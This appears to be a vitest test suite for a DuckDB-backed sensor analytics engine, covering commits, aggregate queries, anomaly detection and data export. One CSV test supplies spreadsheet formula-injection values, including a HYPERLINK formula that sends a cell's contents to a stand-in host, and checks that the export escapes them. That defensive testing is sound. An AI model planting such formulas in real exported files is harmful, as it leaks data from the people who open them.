import { DuckDBInstance } from '@duckdb/node-api';
import { readdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer as readAll } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CommitFingerprints } from '../../src/analytics/commit-types.js';
import { AnalyticsEngine } from '../../src/analytics/engine.js';
import type { Aggregate } from '../../src/analytics/types.js';
import { partitionOf } from '../../src/analytics/partitions.js';
import { BASE_TS, commitRows, countMeasurements, expectedAggregate, generateRows, iso, type Expected, type MeasurementRow } from '../helpers/measurements.js';
import { openTempAnalytics, type TempAnalytics } from '../helpers/temp-analytics.js';

const close = (a: number | null, b: number | null) => {
  if (a === null || b === null) return expect(a).toBe(b);
  return expect(Math.abs(a - b)).toBeLessThanOrEqual(1e-9 * Math.max(1, Math.abs(b)));
};

describe('analytics engine: commit', () => {
  let t: TempAnalytics;
  beforeEach(async () => {
    t = await openTempAnalytics();
  });
  afterEach(() => t.cleanup());

  const seriesCount = async (engine = t.engine) => Number((await engine.all('test', 'SELECT count(*)::INTEGER AS n FROM series'))[0]!.n);
  /** n fingerprints with the given times: fp i+1 (as u64 LE), tag -i. */
  const fingerprints = (times: number[]): CommitFingerprints => {
    const fp = new Uint8Array(times.length * 8);
    const view = new DataView(fp.buffer);
    times.forEach((_, i) => view.setBigUint64(i * 8, BigInt(i + 1) * 0x1_0000_0001n, true));
    return { fp, ts: Uint32Array.from(times), tag: Int32Array.from(times, (_, i) => -i) };
  };

  it('starts at batch 0 with nothing stored', async () => {
    expect(await t.engine.ingestState()).toEqual({ batch: 0, queueThrough: 0, position: null, purgesDone: [], effects: [] });
    expect(await countMeasurements(t.engine)).toBe(0);
    expect((await t.engine.fingerprints(0)).ts).toHaveLength(0);
  });

  it('stores every reading of a commit together with the ingest state, batch after batch', async () => {
    expect(await commitRows(t.engine, generateRows({ count: 1000 }), { queueThrough: 250, position: '1-0' })).toEqual({ batch: 1 });
    expect(await countMeasurements(t.engine)).toBe(1000);
    expect(await commitRows(t.engine, generateRows({ count: 10 }), { queueThrough: 253 })).toEqual({ batch: 2 });
    expect(await countMeasurements(t.engine)).toBe(1010);
    // queue_through never goes back; a commit without a position keeps the last one.
    await commitRows(t.engine, [], { queueThrough: 100 });
    expect(await t.engine.ingestState()).toMatchObject({ batch: 3, queueThrough: 253, position: '1-0' });
  });

  it('keeps each series once: its strings in the series table, readings as numbers', async () => {
    const rows = generateRows({ count: 600 });
    await commitRows(t.engine, rows);
    const distinct = new Set(rows.map((r) => JSON.stringify([r.sensor_id, r.metric, r.unit, r.lab_id, r.model_id, r.source])));
    expect(await seriesCount()).toBe(distinct.size);
    await commitRows(t.engine, generateRows({ count: 600, seed: 2 }));
    expect(await seriesCount()).toBe(distinct.size);
    const columns = await t.engine.all('test', `SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'readings_p00' ORDER BY ordinal_position`);
    expect(columns.map((c) => [c.column_name, c.data_type])).toEqual([['series', 'INTEGER'], ['ts', 'TIMESTAMP'], ['value', 'DOUBLE']]);
  });

  it('leaves nothing of a failed commit, forgets the series it made, and keeps working', async () => {
    await commitRows(t.engine, generateRows({ count: 100 }), { queueThrough: 25 });
    const before = await seriesCount();
    // Bad at the end of a batch long enough for the appender to have flushed chunks already.
    const bad = generateRows({ count: 300_000, sensors: ['fresh-1', 'fresh-2'] });
    bad[299_999] = { ...bad[299_999]!, ts: Number.NaN };
    await expect(commitRows(t.engine, bad, { queueThrough: 150, effects: '{}' })).rejects.toThrow(/time/);
    // Fingerprint columns of different lengths: refused after the readings went in.
    const f = fingerprints([1, 2, 3]);
    await expect(commitRows(t.engine, generateRows({ count: 50, sensors: ['fresh-3'] }), { fingerprints: { ...f, tag: f.tag.subarray(0, 2) } })).rejects.toThrow(/disagree/);
    expect(await countMeasurements(t.engine)).toBe(100);
    expect(await seriesCount()).toBe(before);
    expect(await t.engine.ingestState()).toMatchObject({ batch: 1, queueThrough: 25, effects: [] });

    expect(await commitRows(t.engine, generateRows({ count: 500, sensors: ['fresh-1'] }), { queueThrough: 150 })).toEqual({ batch: 2 });
    expect(await countMeasurements(t.engine)).toBe(600);
    expect((await t.engine.sensorStats('fresh-1')).count).toBe(500);
    expect(await t.engine.ingestState()).toMatchObject({ batch: 2, queueThrough: 150 });
  });

  it('refuses a queue id that is not a non-negative integer', async () => {
    await expect(commitRows(t.engine, [], { queueThrough: -1 })).rejects.toThrow(/queueThrough/);
    await expect(commitRows(t.engine, [], { queueThrough: 1.5 })).rejects.toThrow(/queueThrough/);
    expect((await t.engine.ingestState()).batch).toBe(0);
  });

  it('keeps side effects under their batch until they are applied', async () => {
    await commitRows(t.engine, [], { effects: '{"a":1}' });
    await commitRows(t.engine, [], { effects: '{"b":2}' });
    await commitRows(t.engine, [], { effects: '{"c":3}', effectsAppliedThrough: 1 });
    expect((await t.engine.ingestState()).effects).toEqual([
      [2, '{"b":2}'],
      [3, '{"c":3}'],
    ]);
  });

  it('stores fingerprints and hands back those inside the window as columns; forgets older ones', async () => {
    const times = Array.from({ length: 5000 }, (_, i) => 1_700_000_000 + i);
    const f = fingerprints(times);
    const expected = { fp: f.fp.slice(), ts: f.ts.slice(), tag: f.tag.slice() };
    await commitRows(t.engine, [], { fingerprints: f });
    const all = await t.engine.fingerprints(0);
    expect(all.fp).toEqual(expected.fp);
    expect(all.ts).toEqual(expected.ts);
    expect(all.tag).toEqual(expected.tag);
    const recent = await t.engine.fingerprints(1_700_004_000);
    expect([...recent.ts]).toEqual(times.slice(4000));
    expect(recent.fp).toEqual(expected.fp.subarray(4000 * 8));
    await commitRows(t.engine, [], { forgetBefore: 1_700_004_500 });
    expect((await t.engine.fingerprints(0)).ts).toHaveLength(500);
  });

  it('purges a sensor\'s readings so far, not those of the same commit, once per purge id', async () => {
    const rows = generateRows({ count: 300, sensors: ['given-away', 'kept'] });
    await commitRows(t.engine, rows);
    const fresh = generateRows({ count: 10, sensors: ['given-away'], seed: 9 });
    await commitRows(t.engine, fresh, { purges: [{ id: 7, sensorId: 'given-away' }] });
    expect(await countMeasurements(t.engine, 'given-away')).toBe(10);
    expect(await countMeasurements(t.engine, 'kept')).toBe(150);
    expect((await t.engine.ingestState()).purgesDone).toEqual([7]);
    // The same purge again (a batch sent twice): done already, so the readings since stay.
    await commitRows(t.engine, generateRows({ count: 4, sensors: ['given-away'], seed: 10 }), { purges: [{ id: 7, sensorId: 'given-away' }] });
    expect(await countMeasurements(t.engine, 'given-away')).toBe(14);
  });

  it('answers right about rows that arrived after it was first asked while empty', async () => {
    expect((await t.engine.sensors()).count).toBe(0);
    expect((await t.engine.sensorStats('sensor-a')).count).toBe(0);
    const rows = generateRows({ count: 400, sensors: ['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d'] });
    await commitRows(t.engine, rows);
    const list = await t.engine.sensors();
    expect(list.sensors.map((s) => s.sensor_id)).toEqual(['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d']);
    expect(list.sensors.map((s) => s.count)).toEqual([100, 100, 100, 100]);
    expect((await t.engine.sensorStats('sensor-a')).count).toBe(100);
  });

  it('keeps readings, series and ingest state across a close and reopen', async () => {
    await commitRows(t.engine, generateRows({ count: 300 }), { queueThrough: 75, position: '9-1', effects: 'x' });
    const series = await seriesCount();
    await t.engine.close();
    const reopened = await AnalyticsEngine.open({ path: t.path, memoryLimit: '256MB', threads: 1 });
    try {
      expect(await reopened.ingestState()).toEqual({ batch: 1, queueThrough: 75, position: '9-1', purgesDone: [], effects: [[1, 'x']] });
      expect(await countMeasurements(reopened)).toBe(300);
      // The same series again: found in the table loaded at open, not made twice.
      expect(await commitRows(reopened, generateRows({ count: 300 }))).toEqual({ batch: 2 });
      expect(await seriesCount(reopened)).toBe(series);
    } finally {
      await reopened.close();
    }
  });

  it('never shows a reader part of a commit that is under way', async () => {
    const rows = generateRows({ count: 200_000 });
    const append = commitRows(t.engine, rows);
    const seen = new Set<number>();
    let done = false;
    void append.finally(() => (done = true));
    while (!done) seen.add(await countMeasurements(t.engine));
    await append;
    seen.add(await countMeasurements(t.engine));
    expect([...seen].every((n) => n === 0 || n === 200_000)).toBe(true);
    expect(seen.has(200_000)).toBe(true);
  });

  it('refuses to open a file written with another partition count', async () => {
    await t.engine.close();
    const instance = await DuckDBInstance.create(t.path);
    const c = await instance.connect();
    await c.run(`UPDATE analytics_meta SET value = '4' WHERE key = 'partitions'`);
    c.closeSync();
    instance.closeSync();
    await expect(AnalyticsEngine.open({ path: t.path, memoryLimit: '256MB', threads: 1 })).rejects.toThrow(/partitions/);
  });

  it('spreads sensors over the partitions and reads each back from its own', async () => {
    const sensors = Array.from({ length: 64 }, (_, i) => `sensor-${i}`);
    const rows = generateRows({ count: 6400, sensors });
    await commitRows(t.engine, rows);
    const used = new Set(sensors.map(partitionOf));
    expect(used.size).toBeGreaterThanOrEqual(12);
    for (const id of sensors.slice(0, 8)) {
      expect((await t.engine.sensorStats(id)).count).toBe(100);
      const own = `readings_p${String(partitionOf(id)).padStart(2, '0')}`;
      const inOwn = await t.engine.all('test', `SELECT count(*)::INTEGER AS n FROM ${own} JOIN series USING (series) WHERE sensor_id = $1`, [id]);
      expect(inOwn[0]!.n).toBe(100);
    }
    expect(await countMeasurements(t.engine)).toBe(6400);
    expect((await t.engine.compare(sensors.slice(0, 40))).sensors.every((s) => s.count === 100)).toBe(true);
  });

  it('can be closed twice and refuses work once closed', async () => {
    await t.engine.close();
    await t.engine.close();
    await expect(commitRows(t.engine, [])).rejects.toThrow(/closed/);
    await expect(t.engine.healthPing()).rejects.toThrow(/closed/);
  });

  it('reports its file size and answers a health ping', async () => {
    await commitRows(t.engine, generateRows({ count: 100 }));
    await t.engine.healthPing();
    expect(t.engine.sizeBytes()).toBeGreaterThan(0);
  });
});

describe('analytics engine: queries give the values computed from the rows', () => {
  let t: TempAnalytics;
  let rows: MeasurementRow[];
  beforeEach(async () => {
    t = await openTempAnalytics();
    rows = generateRows({ count: 6000, sensors: ['s-1', 's-2', 's-3'], seed: 7 });
    // A sensor with a single reading: stddev is null, not 0 or NaN.
    rows.push({ ...rows[0]!, sensor_id: 'lonely' });
    await commitRows(t.engine, rows);
  });
  afterEach(() => t.cleanup());

  const of = (pred: (r: MeasurementRow) => boolean) => rows.filter(pred);
  /** count, min and max exactly; avg and stddev to the float noise of summing in another order. */
  const sameAggregate = (got: Aggregate, e: Expected) => {
    expect(got.count).toBe(e.count);
    close(got.avg_value, e.avg);
    expect(got.min_value).toBe(e.min);
    expect(got.max_value).toBe(e.max);
    close(got.stddev_value, e.stddev);
  };

  it('stats: count, avg, min, max, stddev, first and last reading, overall and per metric', async () => {
    const stats = await t.engine.sensorStats('s-2');
    const all = expectedAggregate(of((r) => r.sensor_id === 's-2'));
    expect(stats.sensor_id).toBe('s-2');
    sameAggregate(stats, all);
    expect(stats.first_reading).toBe(iso(all.first!));
    expect(stats.last_reading).toBe(iso(all.last!));
    expect(stats.metrics.map((m) => m.metric)).toEqual(['humidity', 'temperature']);
    for (const m of stats.metrics) {
      const e = expectedAggregate(of((r) => r.sensor_id === 's-2' && r.metric === m.metric));
      sameAggregate(m, e);
      expect(m.unit).toBe(m.metric === 'humidity' ? '%' : 'C');
    }
  });

  it('stats: one metric from several series (labs, models, sources) is one group, its figures those of all its readings', async () => {
    // s-2's readings again under another sensor, spread over three series per metric.
    const mixed = of((r) => r.sensor_id === 's-2').map((r, i) => ({
      ...r,
      sensor_id: 'mixed',
      lab_id: i % 3 === 0 ? 'LAB-A' : 'LAB-B',
      source: i % 2 === 0 ? 'stream' : 'http_frames',
    }));
    await commitRows(t.engine, mixed);
    const [series] = await t.engine.all('test', "SELECT count(*)::INTEGER AS n FROM series WHERE sensor_id = 'mixed'");
    expect(Number(series!.n)).toBeGreaterThan(2);
    const stats = await t.engine.sensorStats('mixed');
    expect(stats.metrics.map((m) => m.metric)).toEqual(['humidity', 'temperature']);
    for (const m of stats.metrics) {
      const e = expectedAggregate(mixed.filter((r) => r.metric === m.metric));
      sameAggregate(m, e);
      expect(m.first_reading).toBe(iso(e.first!));
      expect(m.last_reading).toBe(iso(e.last!));
    }
    const all = expectedAggregate(mixed);
    expect(stats.count).toBe(all.count);
    close(stats.avg_value, all.avg);
    close(stats.stddev_value, all.stddev);
    // A metric filter keeps to that metric's series.
    expect((await t.engine.sensorStats('mixed', { metric: 'humidity' })).metrics.map((m) => m.metric)).toEqual(['humidity']);
  });

  it('stats: metric and time range filters, bounds inclusive', async () => {
    const start = rows[600]!.ts;
    const end = rows[3000]!.ts;
    const stats = await t.engine.sensorStats('s-1', { metric: 'temperature', start, end });
    const e = expectedAggregate(of((r) => r.sensor_id === 's-1' && r.metric === 'temperature' && r.ts >= start && r.ts <= end));
    expect(e.count).toBeGreaterThan(100);
    expect(stats.count).toBe(e.count);
    close(stats.avg_value, e.avg);
    close(stats.stddev_value, e.stddev);
    expect(stats.metrics).toHaveLength(1);
  });

  it('stats: an unknown sensor has count 0 and nulls; one reading has a null stddev', async () => {
    expect(await t.engine.sensorStats('nope')).toEqual({
      sensor_id: 'nope',
      count: 0,
      avg_value: null,
      min_value: null,
      max_value: null,
      stddev_value: null,
      first_reading: null,
      last_reading: null,
      metrics: [],
    });
    const lonely = await t.engine.sensorStats('lonely');
    expect(lonely.count).toBe(1);
    expect(lonely.stddev_value).toBeNull();
    expect(lonely.avg_value).toBe(rows[0]!.value);
  });

  it('timeseries: buckets aligned on the epoch, every value pooled in data and per metric in by_metric', async () => {
    const start = BASE_TS;
    const end = BASE_TS + 86400;
    const series = await t.engine.timeseries('s-3', { interval: '1h', start, end });
    const perMetric = new Map<string, MeasurementRow[]>();
    const pooled = new Map<string, MeasurementRow[]>();
    for (const r of of((r) => r.sensor_id === 's-3' && r.ts >= start && r.ts <= end)) {
      const bucket = new Date(Math.floor(r.ts / 3600) * 3600 * 1000).toISOString();
      perMetric.set(`${bucket} ${r.metric}`, [...(perMetric.get(`${bucket} ${r.metric}`) ?? []), r]);
      pooled.set(bucket, [...(pooled.get(bucket) ?? []), r]);
    }
    expect(series.interval).toBe('1h');
    expect(series.interval_seconds).toBe(3600);
    expect(series.by_metric.length).toBe(perMetric.size);
    for (const b of series.by_metric) {
      const e = expectedAggregate(perMetric.get(`${b.bucket} ${b.metric}`) ?? []);
      expect(b.count).toBe(e.count);
      close(b.avg_value, e.avg);
      expect(b.min_value).toBe(e.min);
      expect(b.max_value).toBe(e.max);
    }
    const sorted = [...series.by_metric].sort((a, b) => a.bucket.localeCompare(b.bucket) || a.metric.localeCompare(b.metric));
    expect(series.by_metric).toEqual(sorted);
    expect(series.data.map((b) => b.bucket)).toEqual([...pooled.keys()].sort());
    for (const b of series.data) {
      const e = expectedAggregate(pooled.get(b.bucket)!);
      expect(b.count).toBe(e.count);
      close(b.avg_value, e.avg);
      expect(b.min_value).toBe(e.min);
      expect(b.max_value).toBe(e.max);
    }
  });

  it('timeseries: takes interval words, and a metric narrows data to it', async () => {
    const words = await t.engine.timeseries('s-3', { interval: '1 hour', metric: 'humidity' });
    const short = await t.engine.timeseries('s-3', { interval: '60m', metric: 'humidity' });
    expect(words.interval).toBe('1 hour');
    expect(words.data).toEqual(short.data);
    expect(words.data).toEqual(words.by_metric.map(({ metric: _m, ...b }) => b));
  });

  it('anomalies: |z| above the threshold against the metric mean and sample stddev, newest first', async () => {
    const threshold = 2.5;
    const result = await t.engine.anomalies('s-1', { threshold, limit: 10_000 });
    const expected: Array<{ ts: number; metric: string; z: number }> = [];
    for (const metric of ['temperature', 'humidity']) {
      const group = of((r) => r.sensor_id === 's-1' && r.metric === metric);
      const e = expectedAggregate(group);
      for (const r of group) {
        const z = (r.value - e.avg!) / e.stddev!;
        if (Math.abs(z) > threshold) expected.push({ ts: r.ts, metric, z });
      }
    }
    expect(expected.length).toBeGreaterThan(0);
    expect(result.threshold).toBe(threshold);
    expect(result.anomalies).toHaveLength(expected.length);
    expect(result.count).toBe(expected.length);
    expected.sort((a, b) => b.ts - a.ts || a.metric.localeCompare(b.metric));
    result.anomalies.forEach((a, i) => {
      close(a.z_score, expected[i]!.z);
      expect(a.timestamp).toBe(iso(expected[i]!.ts));
      expect(a.metric).toBe(expected[i]!.metric);
    });
    const limited = await t.engine.anomalies('s-1', { threshold, limit: 3 });
    expect(limited.anomalies).toEqual(result.anomalies.slice(0, 3));
    expect(limited.count).toBe(3);
  });

  it('compare: each sensor in the order asked, unknown ones with count 0', async () => {
    const start = rows[1000]!.ts;
    const result = await t.engine.compare(['s-3', 'ghost', 's-1'], { start, metric: 'humidity' });
    expect(result.sensors.map((s) => s.sensor_id)).toEqual(['s-3', 'ghost', 's-1']);
    for (const s of result.sensors) {
      const e = expectedAggregate(of((r) => r.sensor_id === s.sensor_id && r.metric === 'humidity' && r.ts >= start));
      expect(s.count).toBe(e.count);
      close(s.avg_value, e.avg);
      expect(s.min_value).toBe(e.min);
      expect(s.max_value).toBe(e.max);
      close(s.stddev_value, e.stddev);
      const { sensor_id, ...agg } = s;
      expect(result.comparison[sensor_id]).toEqual(agg);
    }
    // comparison: descending avg_value, the sensor without data last.
    const order = Object.keys(result.comparison);
    expect(order[2]).toBe('ghost');
    const avgs = order.slice(0, 2).map((id) => result.comparison[id]!.avg_value!);
    expect(avgs).toEqual([...avgs].sort((a, b) => b - a));
  });

  it('compare: no sensors gives an empty comparison; 100 sensors in one scan', async () => {
    expect(await t.engine.compare([])).toEqual({ comparison: {}, sensors: [] });
    const many = Array.from({ length: 100 }, (_, i) => `s-${i}`);
    expect((await t.engine.compare(many)).sensors).toHaveLength(100);
  });

  it('sensors: every sensor with its count, metrics and readings, limited to the ids given', async () => {
    const list = await t.engine.sensors();
    expect(list.sensors.map((s) => s.sensor_id)).toEqual(['lonely', 's-1', 's-2', 's-3']);
    const s1 = list.sensors.find((s) => s.sensor_id === 's-1')!;
    const e = expectedAggregate(of((r) => r.sensor_id === 's-1'));
    expect(s1).toEqual({ sensor_id: 's-1', count: e.count, metrics: ['humidity', 'temperature'], first_reading: iso(e.first!), last_reading: iso(e.last!) });
    const scoped = await t.engine.sensors({ sensorIds: ['s-2', 'ghost'] });
    expect(scoped.sensors.map((s) => s.sensor_id)).toEqual(['s-2']);
    expect(await t.engine.sensors({ sensorIds: [] })).toEqual({ count: 0, sensors: [], next_after: null });
  });
});

describe('analytics engine: export', () => {
  let t: TempAnalytics;
  let rows: MeasurementRow[];
  beforeEach(async () => {
    t = await openTempAnalytics();
    rows = generateRows({ count: 3000, sensors: ['s-1', 's-2', 's-3'], seed: 3 });
    await commitRows(t.engine, rows);
  });
  afterEach(() => t.cleanup());

  const ourTempDirs = async () => (await readdir(tmpdir())).filter((n) => n.startsWith('ocean-export-'));

  it('parquet: the filtered rows, readable by read_parquet, ts as a UTC timestamp', async () => {
    const before = await ourTempDirs();
    const file = await t.engine.exportMeasurements({ format: 'parquet', sensorIds: ['s-1', 's-3'], metric: 'temperature' });
    expect(file.contentType).toBe('application/vnd.apache.parquet');
    expect(file.filename).toMatch(/^ocean-measurements-\d{8}T\d{6}Z\.parquet$/);
    const bytes = await readAll(file.stream);
    expect(bytes.subarray(0, 4).toString()).toBe('PAR1');
    // Streamed through a pipe: nothing is left in the temp directory once it is read.
    expect(await ourTempDirs()).toEqual(before);

    const path = join(t.dir, 'check.parquet');
    await writeFile(path, bytes);
    const instance = await DuckDBInstance.create(':memory:');
    const c = await instance.connect();
    try {
      const got = (
        await c.runAndReadAll(
          `SELECT sensor_id, count(*)::INTEGER AS n, sum(value) AS s, min(epoch(ts)) AS first FROM read_parquet('${path}') GROUP BY sensor_id ORDER BY sensor_id`,
        )
      ).getRowObjectsJS();
      const expected = ['s-1', 's-3'].map((id) => {
        const e = expectedAggregate(rows.filter((r) => r.sensor_id === id && r.metric === 'temperature'));
        return { sensor_id: id, n: e.count, s: e.sum, first: e.first };
      });
      expect(got.map((g) => g.sensor_id)).toEqual(['s-1', 's-3']);
      got.forEach((g, i) => {
        expect(g.n).toBe(expected[i]!.n);
        close(g.s as number, expected[i]!.s);
        close(g.first as number, expected[i]!.first);
      });
    } finally {
      c.closeSync();
      instance.closeSync();
    }
  });

  it('csv: a header and one line per filtered row, ISO timestamps', async () => {
    const start = rows[1500]!.ts;
    const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['s-2'], start });
    expect(file.contentType).toBe('text/csv; charset=utf-8');
    const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n');
    expect(lines[0]).toBe('ts,sensor_id,metric,value,unit,lab_id,model_id,source');
    const expected = rows.filter((r) => r.sensor_id === 's-2' && r.ts >= start);
    expect(lines.length - 1).toBe(expected.length);
    const sum = lines.slice(1).reduce((acc, line) => acc + Number(line.split(',')[3]), 0);
    close(sum, expectedAggregate(expected).sum);
    expect(lines[1]!.split(',')[0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
  });

  it('json: one array of objects; ndjson: one object per line', async () => {
    const json = await t.engine.exportMeasurements({ format: 'json', sensorIds: ['s-1'], metric: 'humidity' });
    expect(json.contentType).toBe('application/json');
    const parsed = JSON.parse((await readAll(json.stream)).toString('utf8')) as Array<Record<string, unknown>>;
    const expected = rows.filter((r) => r.sensor_id === 's-1' && r.metric === 'humidity');
    expect(parsed).toHaveLength(expected.length);
    expect(parsed[0]).toMatchObject({ sensor_id: 's-1', metric: 'humidity', unit: '%', source: 'test' });
    expect(Date.parse(parsed[0]!.ts as string) / 1000).toBeCloseTo(expected[0]!.ts, 3);
    close(
      parsed.reduce((a, r) => a + (r.value as number), 0),
      expectedAggregate(expected).sum,
    );

    const nd = await t.engine.exportMeasurements({ format: 'ndjson' });
    expect(nd.contentType).toBe('application/x-ndjson');
    const lines = (await readAll(nd.stream)).toString('utf8').trim().split('\n');
    expect(lines).toHaveLength(rows.length);
    expect(() => lines.map((l) => JSON.parse(l) as unknown)).not.toThrow();
  });

  it('csv: a text cell a spreadsheet would run as a formula starts with a quote; numbers are untouched', async () => {
    const base = { ts: rows[0]!.ts, lab_id: null, model_id: null, source: 'test' };
    await commitRows(
      t.engine,
      [
        { ...base, sensor_id: '=evil', metric: '=HYPERLINK("http://x.example/?"&A1)', value: -5, unit: '+1', lab_id: '@lab' },
        { ...base, sensor_id: '=evil', metric: '-cmd', value: 1, unit: '\tx' },
        { ...base, sensor_id: '=evil', metric: 'plain=ok', value: 2, unit: 'a-b', source: '@src' },
      ],
    );
    const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['=evil'] });
    const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n').slice(1).sort();
    expect(lines).toHaveLength(3);
    const cells = lines.map((l) => l.split(',').slice(1));
    expect(cells).toEqual([
      ["'=evil", `"'=HYPERLINK(""http://x.example/?""&A1)"`, '-5.0', "'+1", "'@lab", '', 'test'],
      ["'=evil", "'-cmd", '1.0', "'\tx", '', '', 'test'],
      ["'=evil", 'plain=ok', '2.0', 'a-b', '', '', "'@src"],
    ]);
  });

  it('gives a valid empty file when nothing matches', async () => {
    const json = await t.engine.exportMeasurements({ format: 'json', sensorIds: [] });
    expect(JSON.parse((await readAll(json.stream)).toString('utf8'))).toEqual([]);
    const csv = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['ghost'] });
    expect((await readAll(csv.stream)).toString('utf8').trim()).toBe('ts,sensor_id,metric,value,unit,lab_id,model_id,source');
  });
});
